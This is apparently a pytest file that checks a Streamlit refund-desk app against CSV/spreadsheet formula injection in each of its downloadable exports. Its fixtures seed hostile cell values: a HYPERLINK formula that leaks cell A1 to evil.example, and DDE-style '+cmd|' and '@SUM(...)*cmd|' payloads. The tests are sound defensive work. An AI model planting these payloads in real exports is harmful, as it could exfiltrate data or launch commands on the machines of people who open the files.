"""Every download of the app, as the page offers it, on a desk whose customer names, case numbers and
rationales are spreadsheet formulas: no downloaded cell starts like a formula, and numbers stay numbers.

The page's own download buttons are recorded (the `data` they were given, a deferred one called as a click
would), so these tests read exactly the bytes a user would get."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text

from data.db import open_database
from tests.conftest import TODAY, make_demo

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory) -> str:
    """A demo desk where every customer name, every case's external id and every rationale is a formula."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'desk.db'}"
    db = make_demo(url)
    with db.write.begin() as s:
        s.execute(text("UPDATE customers SET name = :n || id"), {"n": EVIL_NAME})
        s.execute(text("UPDATE cases SET external_id = '@SUM(1+1)*cmd|' || id"))
        s.execute(text("UPDATE decisions SET rationale = '+cmd|'' /C calc''!A' || id"))
    db.dispose()
    return url


@pytest.fixture
def downloads(monkeypatch):
    """label -> the bytes the download button would send (deferred data is produced as on a click)."""
    import streamlit as st
    from streamlit.delta_generator import DeltaGenerator

    seen: dict[str, bytes] = {}
    original = DeltaGenerator.download_button

    def record(self, label, data, *args, **kwargs):
        payload = data() if callable(data) else data
        seen[label] = payload.encode() if isinstance(payload, str) else payload
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", record)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: record(st._main, *a, **k))
    return seen


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def assert_safe(data: bytes) -> list[list[str]]:
    table = rows(data)
    assert len(table) > 1, "the export is empty"
    bad = [cell for row in table for cell in row if cell.startswith(TRIGGERS) and not _number(cell)]
    assert not bad, f"cells a spreadsheet would run: {bad[:3]}"
    return table


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def open_page(app, url, page, user="max@refund-desk.example"):
    at = app(url)
    at.session_state["local_user_email"] = user
    at.run()
    at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def test_the_queue_csv_quotes_formula_names_and_keeps_negative_days_as_numbers(app, hostile_url, downloads):
    open_page(app, hostile_url, "pages/queue.py")
    table = assert_safe(downloads["Download CSV"])
    header = table[0]
    names = {r[header.index("Customer")] for r in table[1:]}
    assert all(n.startswith("'" + EVIL_NAME) for n in names)
    days_left = [int(r[header.index("Days left")]) for r in table[1:]]
    assert min(days_left) < 0  # overdue cases: a negative number, written as a number


def test_every_analytics_csv_is_safe_and_the_exception_list_quotes_rationales(app, hostile_url, downloads):
    at = open_page(app, hostile_url, "pages/analytics.py")
    csvs = {label: data for label, data in downloads.items() if label.startswith("Download CSV")}
    assert len(at.get("download_button")) >= 8 and csvs
    for data in csvs.values():
        if rows(data)[1:]:
            assert_safe(data)
    exception_lists = [rows(d) for d in csvs.values() if "Rationale" in rows(d)[0]]
    assert exception_lists, "the exception list is downloadable"
    header, *body = exception_lists[0]
    assert body and all(r[header.index("Rationale")].startswith("'+cmd|") for r in body)


def test_the_report_workbook_runs_no_formula_and_the_html_runs_no_script(app, hostile_url, downloads):
    from openpyxl import load_workbook

    open_page(app, hostile_url, "pages/analytics.py")
    wb = load_workbook(io.BytesIO(downloads["Report (XLSX)"]))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rationales = [c.value for c in wb["Exception cases"]["K"][1:] if c.value]
    assert rationales and all(v.startswith("'+cmd|") for v in rationales)
    page = downloads["Report with charts (HTML)"].decode("utf-8")
    assert "+cmd|" in page and "<script src=" not in page


def test_the_replay_csv_quotes_formula_case_numbers(app, hostile_url, downloads):
    at = open_page(app, hostile_url, "pages/replay.py")
    at.number_input(key="rp_window").set_value(14).run()
    at.date_input(key="rp_period").set_value((date(2024, 11, 1), TODAY)).run()
    next(b for b in at.button if b.label == "Run the replay").click().run()
    assert not at.exception
    header, *body = assert_safe(downloads["Download the changed cases as CSV"])
    assert body and all(r[header.index("external_id")].startswith("'@SUM(1+1)") for r in body)


def test_the_import_problems_csv_is_safe(app, hostile_url, downloads):
    at = open_page(app, hostile_url, "pages/import.py", user="ada@refund-desk.example")
    frame = pd.read_csv(ROOT / "data" / "examples" / "services.csv", dtype=str, keep_default_na=False)
    frame.loc[1, "scheduled_on"] = '=HYPERLINK("https://evil.example")'
    frame.loc[2, "price"] = "-1+2"
    at.file_uploader[0].set_value(("services.csv", frame.to_csv(index=False).encode(), "text/csv"))
    at.run()
    at.button[0].click().run()
    assert not at.exception
    header, *body = assert_safe(downloads["Download the problems as CSV"])
    problems = {r[header.index("column")]: r[header.index("message")] for r in body}
    assert set(problems) == {"price", "scheduled_on"} and "HYPERLINK" in problems["scheduled_on"]


def test_the_example_files_offered_for_download_hold_no_formula():
    for path in sorted((ROOT / "data" / "examples").glob("*.csv")):
        assert_safe(path.read_bytes())


def test_every_download_goes_through_the_export_helper():
    """No page or ui module builds a download itself: only ui/export.py calls download_button, and only
    desk/export.py writes CSV (data/bulk.py writes COPY buffers for PostgreSQL, not files for people)."""
    offenders = []
    for path in [
        ROOT / "app.py",
        *sorted((ROOT / "pages").glob("*.py")),
        *sorted((ROOT / "ui").glob("*.py")),
        *sorted((ROOT / "desk").glob("*.py")),
    ]:
        rel = path.relative_to(ROOT).as_posix()
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                name = node.func.attr
                if name == "download_button" and rel != "ui/export.py":
                    offenders.append(f"{rel}:{node.lineno} download_button")
                writes_csv = name in ("to_csv", "to_excel") or (
                    name == "writer" and getattr(node.func.value, "id", "") == "csv"
                )
                if writes_csv and rel != "desk/export.py":
                    offenders.append(f"{rel}:{node.lineno} {name}")
    assert not offenders, offenders


def test_the_hostile_desk_really_holds_formulas(hostile_url):
    db = open_database(hostile_url)
    with db.read() as s:
        assert s.scalar(text("SELECT name FROM customers LIMIT 1")).startswith("=HYPERLINK")
    db.dispose()


def test_tables_offer_no_built_in_csv_export():
    """st.dataframe's own toolbar export writes formula cells raw; the app's config turns it off."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
